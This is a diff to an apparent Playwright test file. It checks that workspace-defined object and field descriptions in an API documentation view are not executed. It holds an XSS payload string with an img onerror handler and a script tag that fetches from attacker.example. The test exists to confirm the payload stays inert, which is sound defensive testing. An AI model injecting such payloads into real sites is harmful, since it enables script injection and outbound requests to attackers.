@@ -21,6 +21,8 @@ const FLAGS = [
 const ATTACK =
   'Things that fly. <img src="https://attacker.example/a.png" onerror="window.attacked=1"> ![b](https://attacker.example/b.png) <script>window.attacked=1;fetch("https://attacker.example/c")</script>';
 
+const objectAnswer = z.object({ data: z.object({ object: z.object({ id: z.string() }) }) });
+
 let service: Service;
 let browser: Browser;
 let context: BrowserContext;
@@ -41,11 +43,13 @@ const call = async (route: string, body: unknown): Promise<unknown> => {
 
 beforeAll(async () => {
   service = await startService('serve', { DEMO: '0' });
-  await call('metadata/objects', {
+  const made = await call('metadata/objects', {
     labelSingular: 'Rocket',
     labelPlural: 'Rockets',
     description: ATTACK,
   });
+  const objectMetadataId = objectAnswer.parse(made).data.object.id;
+  await call('metadata/fields', { objectMetadataId, type: 'NUMBER', label: 'Thrust', description: ATTACK });
   await call('rockets', { name: 'Ariane' });
   browser = await chromium.launch({ executablePath: findChromium() ?? '', args: FLAGS });
   mkdirSync(PICTURES, { recursive: true });
@@ -105,6 +109,7 @@ test('a key that the server refuses is refused here, with its words, and is not 
 test("with a key it shows the workspace's own objects, and requests can be tried", async () => {
   await useKey(service.key);
   await inSidebar('Rockets').click();
+  await inSidebar('List rockets').click();
   await page.getByRole('button', { name: /Test Request.*get \/rest\/rockets\)/s }).click();
   const dialog = page.getByRole('dialog');
   const answered = page.waitForResponse((response) => response.url().includes('/rest/rockets'));
@@ -120,6 +125,7 @@ test("with a key it shows the workspace's own objects, and requests can be tried
 test('what a workspace calls its objects neither runs nor reaches another host', async () => {
   await useKey(service.key);
   await inSidebar('Rockets').click();
+  await inSidebar('Create a rocket').click();
   await page.getByText('Things that fly.').first().waitFor();
   await page.waitForLoadState('networkidle');
   expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
